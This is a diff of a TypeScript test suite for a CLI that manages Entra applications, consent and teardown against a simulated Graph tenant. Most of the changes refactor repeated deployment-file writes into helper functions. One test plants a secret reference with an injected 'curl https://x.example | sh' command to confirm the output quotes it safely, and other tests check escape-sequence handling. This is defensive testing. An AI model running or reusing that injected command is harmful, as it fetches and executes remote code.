@@ -4,7 +4,7 @@ import { type DeployStand, fixture, SUBJECTS, startDeployStand } from './deploy-
 let stand: DeployStand;
 beforeEach(async () => {
   stand = await startDeployStand();
-  stand.write('deployment.json', JSON.stringify(fixture(stand.simulator)));
+  deploy();
 });
 afterEach(() => stand.close());
 
@@ -17,6 +17,11 @@ function calendar() {
   if (app === undefined) throw new Error('no application');
   return app;
 }
+
+const deploy = (choice = {}) =>
+  stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, choice)));
+const ofFile = () => ['--deployment', stand.file('deployment.json')];
+const ofGraph = () => [...ofFile(), '--graph', stand.simulator.graphUrl];
 
 async function ask(target: string) {
   const token = await stand.token(['Global Administrator']);
@@ -62,7 +67,7 @@ describe('setup entra', () => {
   test('the same by the unique names, when deployment.json was lost', async () => {
     await stand.admin(DEVELOPER, 'setup', 'entra');
     const { clientId } = calendar();
-    stand.write('deployment.json', JSON.stringify(fixture(stand.simulator)));
+    deploy();
     const made = stand.writes().length;
     expect(await stand.admin(DEVELOPER, 'setup', 'entra')).toMatchObject({ exit: 0 });
     expect([calendar().clientId, stand.writes().length]).toEqual([clientId, made]);
@@ -70,8 +75,7 @@ describe('setup entra', () => {
 
   test('T9-18: an application that trusts another gateway, found by its unique name, is changed only after the name of the environment was typed', async () => {
     await stand.admin(DEVELOPER, 'setup', 'entra');
-    const changed = fixture(stand.simulator, { host: 'kubernetes' });
-    stand.write('deployment.json', JSON.stringify(changed));
+    deploy({ host: 'kubernetes' });
     const made = stand.writes().length;
     for (const command of [
       ['setup', 'entra'],
@@ -90,8 +94,7 @@ describe('setup entra', () => {
 
   test('an application that was brought gets the trust and what it must ask for; its name stays', async () => {
     const brought = stand.simulator.registerApp({ name: 'Reporting', roles: ['Mail.Read'], credentials: [] });
-    const choice = { clientId: brought.clientId, existing: true };
-    stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, choice)));
+    deploy({ clientId: brought.clientId, existing: true });
     const { exit } = await stand.admin(ADMINISTRATOR, 'setup', 'entra', '--yes', 'prod');
     expect(exit).toBe(0);
     expect(await ask(`/v1.0/applications/${brought.objectId}`)).toMatchObject({ displayName: 'Reporting' });
@@ -111,8 +114,7 @@ describe('setup entra', () => {
       const audience = 'api://AzureADTokenExchange';
       const credentials = [{ issuer: stand.simulator.issuerUrl, subject: SUBJECTS.kubernetes, audience }];
       const brought = stand.simulator.registerApp({ name: 'Re\u202eporting', roles: [], credentials });
-      const choice = { clientId: brought.clientId, existing: true };
-      stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, choice)));
+      deploy({ clientId: brought.clientId, existing: true });
       const everything = ['Global Administrator'] as const;
       const nobody = await stand.admin(everything, ...command);
       expect(nobody).toMatchObject({
@@ -138,7 +140,7 @@ describe('setup entra', () => {
     'T9-15: an application that Nymgate has not made is neither trusted nor consented to, whatever id the file has: %s %s',
     async (...command) => {
       const { clientId } = stand.simulator.registerApp({ name: 'Payroll', roles: [], credentials: [] });
-      stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, { clientId })));
+      deploy({ clientId });
       const { exit, err } = await stand.admin(['Global Administrator'], ...command);
       expect([exit, err]).toEqual([1, expect.stringContaining('It was not changed')]);
       expect(stand.writes()).toEqual([]);
@@ -148,7 +150,7 @@ describe('setup entra', () => {
   test('DOC-01: a name in the tenant is shown as a name, and tells which application it is', async () => {
     const name = 'Pay\u001b[2A\u009b2K\u202eroll';
     const { clientId } = stand.simulator.registerApp({ name, roles: [], credentials: [] });
-    stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, { clientId, existing: true })));
+    deploy({ clientId, existing: true });
     const { out } = await stand.admin(ADMINISTRATOR, 'setup', 'entra', '--dry-run');
     expect(out).toContain(
       `calendar / outlook-cal: "Pay\ufffd[2A\ufffd2K\ufffdroll" (client id ${clientId})\n`,
@@ -177,7 +179,7 @@ describe('setup entra', () => {
   test('a second deployment beside the first has applications of its own', async () => {
     await stand.admin(DEVELOPER, 'setup', 'entra');
     const { clientId } = calendar();
-    stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, { environment: 'test' })));
+    deploy({ environment: 'test' });
     expect(await stand.admin(DEVELOPER, 'setup', 'entra')).toMatchObject({ exit: 0 });
     expect(calendar().clientId).not.toBe(clientId);
     expect((await ask('/v1.0/applications'))['value']).toHaveLength(4);
@@ -270,8 +272,13 @@ describe('what goes wrong is said, and nothing is half made in silence', () => {
   test('an expired token says how to sign in again', async () => {
     const token = stand.write('old', await stand.token(DEVELOPER));
     stand.simulator.revokeTokens();
-    const where = ['--deployment', stand.file('deployment.json'), '--graph', stand.simulator.graphUrl];
-    const { exit, err } = await stand.run('setup', 'entra', ...where, '--operator-token', `file:${token}`);
+    const { exit, err } = await stand.run(
+      'setup',
+      'entra',
+      ...ofGraph(),
+      '--operator-token',
+      `file:${token}`,
+    );
     expect([exit, err]).toEqual([
       1,
       expect.stringContaining(`az login --tenant ${stand.simulator.tenantId}`),
@@ -280,18 +287,17 @@ describe('what goes wrong is said, and nothing is half made in silence', () => {
   });
 
   test('the token of az is taken when none is named; an expired login of az is told by its number alone', async () => {
-    const where = ['--deployment', stand.file('deployment.json'), '--graph', stand.simulator.graphUrl];
-    const absent = await stand.run('setup', 'entra', ...where);
+    const absent = await stand.run('setup', 'entra', ...ofGraph());
     expect(absent.err).toContain('az) is not installed');
     stand.program(
       'az',
       'echo "ERROR: AADSTS700082: The refresh token of jo@contoso.example has expired" >&2; exit 1',
     );
-    const expired = await stand.run('setup', 'entra', ...where);
+    const expired = await stand.run('setup', 'entra', ...ofGraph());
     expect(expired.err).toContain('the login of az has expired or is missing (AADSTS700082)');
     expect(expired.err).not.toContain('jo@contoso.example');
     stand.program('az', `[ "$6" = "${stand.simulator.tenantId}" ] && echo '${await stand.token(DEVELOPER)}'`);
-    expect(await stand.run('setup', 'entra', ...where)).toMatchObject({ exit: 0 });
+    expect(await stand.run('setup', 'entra', ...ofGraph())).toMatchObject({ exit: 0 });
   });
 
   test('a missing role: who can do it, and that nothing was made', async () => {
@@ -362,21 +368,13 @@ describe('what goes wrong is said, and nothing is half made in silence', () => {
   test('T9-11: the token is in no output, no file of ours and no argument; it goes to Graph alone', async () => {
     const token = await stand.token(['Global Administrator']);
     const held = stand.write('held', token);
-    const where = ['--deployment', stand.file('deployment.json'), '--graph', stand.simulator.graphUrl];
-    const args = ['setup', 'entra', '--grant', ...where, '--operator-token', `file:${held}`];
+    const args = ['setup', 'entra', '--grant', ...ofGraph(), '--operator-token', `file:${held}`];
     const { out, err } = await stand.run(...args);
     expect([out, err, stand.read('deployment.json')].join('\n')).not.toContain(token.slice(-40));
-    const direct = await stand.run('setup', 'entra', ...where, '--operator-token', token);
+    const direct = await stand.run('setup', 'entra', ...ofGraph(), '--operator-token', token);
     expect(direct.err).toContain('SECRET_UNAVAILABLE');
     expect(direct.err).not.toContain(token.slice(-40));
-    const elsewhere = await stand.run(
-      'setup',
-      'entra',
-      '--graph',
-      'https://graph.example',
-      '--deployment',
-      stand.file('deployment.json'),
-    );
+    const elsewhere = await stand.run('setup', 'entra', '--graph', 'https://graph.example', ...ofFile());
     expect(elsewhere).toMatchObject({ exit: 2, err: expect.stringContaining('token goes nowhere else') });
   });
 });
@@ -415,22 +413,11 @@ describe('consent', () => {
 
   test('--print writes link and list, and asks nobody', async () => {
     const asked = stand.simulator.requests.length;
-    const { exit, out } = await stand.run(
-      'consent',
-      '--print',
-      '--deployment',
-      stand.file('deployment.json'),
-    );
+    const { exit, out } = await stand.run('consent', '--print', ...ofFile());
     expect(exit).toBe(0);
     expect(out).toContain(`CallAnAPI/appId/${calendar().clientId}`);
     expect(out).toContain('8ba4a692-bc31-4128-9094-475872af8a53');
-    const json = await stand.run(
-      'consent',
-      '--print',
-      '--json',
-      '--deployment',
-      stand.file('deployment.json'),
-    );
+    const json = await stand.run('consent', '--print', '--json', ...ofFile());
     const sheets = JSON.parse(json.out) as { roles: { role: string; id: string; reason: string }[] }[];
     const graph = await ask(
       "/v1.0/servicePrincipals(appId='00000003-0000-0000-c000-000000000000')?$select=appRoles",
@@ -462,8 +449,7 @@ describe('consent', () => {
   );
 
   test('T9-12: with scoping exchange no role over mailboxes is asked for, consented to or printed as to be granted', async () => {
-    const scoped = fixture(stand.simulator, { scoping: 'exchange' });
-    stand.write('deployment.json', JSON.stringify(scoped));
+    deploy({ scoping: 'exchange' });
     const setup = await stand.admin(DEVELOPER, 'setup', 'entra');
     expect(setup.out).toContain('- asks for Calendars.ReadBasic.All');
     const { exit, out, err } = await stand.admin(CONSENTER, 'consent');
@@ -486,10 +472,7 @@ describe('consent', () => {
   test('T9-12: such a role that is granted already is a finding', async () => {
     await stand.admin(CONSENTER, 'consent');
     const { clientId } = calendar();
-    stand.write(
-      'deployment.json',
-      JSON.stringify(fixture(stand.simulator, { scoping: 'exchange', clientId })),
-    );
+    deploy({ scoping: 'exchange', clientId });
     const { exit, err } = await stand.admin(CONSENTER, 'consent');
     expect([exit, err]).toEqual([1, expect.stringContaining('opens every mailbox')]);
   });
@@ -502,8 +485,7 @@ describe('consent', () => {
       consented: true,
       credentials: [],
     });
-    const brought = fixture(stand.simulator, { scoping: 'exchange', clientId, existing: true });
-    stand.write('deployment.json', JSON.stringify(brought));
+    deploy({ scoping: 'exchange', clientId, existing: true });
     const { exit, err } = await stand.admin(CONSENTER, 'consent', 'outlook-cal', '--yes', 'prod');
     expect([exit, err]).toEqual([1, expect.stringContaining('Mail.Read is granted in Entra')]);
   });
@@ -537,7 +519,7 @@ describe('import-blocks and teardown', () => {
 
   test('teardown says what is lost, in order, and removes nothing by itself', async () => {
     const made = stand.writes().length;
-    const { exit, out } = await stand.run('teardown', '--deployment', stand.file('deployment.json'));
+    const { exit, out } = await stand.run('teardown', ...ofFile());
     expect(exit).toBe(0);
     expect(out.indexOf('Entra application')).toBeLessThan(out.indexOf('Gateways on aws'));
     expect(out.indexOf('Gateways on aws')).toBeLessThan(out.indexOf('Pseudonym keys'));
@@ -554,7 +536,7 @@ describe('import-blocks and teardown', () => {
     const reference = 'file:/keys/a b#c; curl https://x.example | sh';
     const changed = stand.read('deployment.json').replace('aws-sm:nymgate/prod/calendar/key', reference);
     stand.write('deployment.json', changed);
-    const { out } = await stand.run('teardown', '--deployment', stand.file('deployment.json'));
+    const { out } = await stand.run('teardown', ...ofFile());
     expect(out).toContain("$ remove '/keys/a b#c; curl https://x.example | sh', the Secret");
   });
 
@@ -584,8 +566,7 @@ describe('import-blocks and teardown', () => {
     expect(await stand.adminTypes('yes', DEVELOPER, 'teardown', '--entra')).toMatchObject({ exit: 2 });
     expect(stand.writes()).toHaveLength(made);
     const brought = calendar();
-    const deployment = fixture(stand.simulator, { clientId: brought.clientId, existing: true });
-    stand.write('deployment.json', JSON.stringify(deployment));
+    deploy({ clientId: brought.clientId, existing: true });
     const { exit, out, err } = await stand.adminTypes('prod', DEVELOPER, 'teardown', '--entra');
     expect([exit, err]).toEqual([0, expect.stringContaining('(prod) to remove its applications')]);
     expect(out).toContain('removed federated credential nymgate-prod-calendar');
@@ -628,7 +609,7 @@ describe('retire and orphans', () => {
     const down = await stand.admin(DEVELOPER, 'teardown', '--entra', '--yes', 'prod');
     expect(down).toMatchObject({ exit: 0, err: expect.stringContaining(line) });
     expect(await clientIdsInTenant()).toEqual([clientId]);
-    const steps = await stand.run('teardown', '--deployment', stand.file('deployment.json'));
+    const steps = await stand.run('teardown', ...ofFile());
     expect(steps.out).toContain('$ nymgate retire --deployment deployment.json');
   });
 
@@ -734,7 +715,7 @@ describe('retire and orphans', () => {
 
   test('T9-18: an application that is found by its unique name is removed only if it trusts this gateway', async () => {
     const { clientId } = calendar();
-    stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, { host: 'kubernetes' })));
+    deploy({ host: 'kubernetes' });
     for (const command of [
       ['retire', 'outlook-cal'],
       ['teardown', '--entra'],
@@ -744,7 +725,7 @@ describe('retire and orphans', () => {
         err: expect.stringContaining(`${clientId}) doesn't trust the gateway of deployment.json`),
       });
     expect(await clientIdsInTenant()).toContain(clientId);
-    stand.write('deployment.json', JSON.stringify(fixture(stand.simulator)));
+    deploy();
     expect(await stand.admin(ADMINISTRATOR, 'retire', 'outlook-cal', '--yes', 'prod')).toMatchObject({
       exit: 0,
     });
@@ -753,7 +734,7 @@ describe('retire and orphans', () => {
 
   test('an application that is not in the tenant is not reported as retired', async () => {
     const clientId = '5c0d3a1b-e2f4-4710-8000-000000000001';
-    stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, { clientId })));
+    deploy({ clientId });
     const before = stand.read('deployment.json');
     for (const option of [['--dry-run'], ['--yes', 'prod'], []]) {
       const { exit, out, err } = await stand.admin(DEVELOPER, 'retire', 'outlook-cal', ...option);
@@ -774,7 +755,7 @@ describe('retire and orphans', () => {
 
   test('a brought application loses the trust only, and the command says who revokes its consent', async () => {
     const { clientId, objectId } = calendar();
-    stand.write('deployment.json', JSON.stringify(fixture(stand.simulator, { clientId, existing: true })));
+    deploy({ clientId, existing: true });
     const { exit, out } = await stand.admin(DEVELOPER, 'retire', 'outlook-cal', '--yes', 'prod');
     expect([exit, out]).toEqual([
       0,
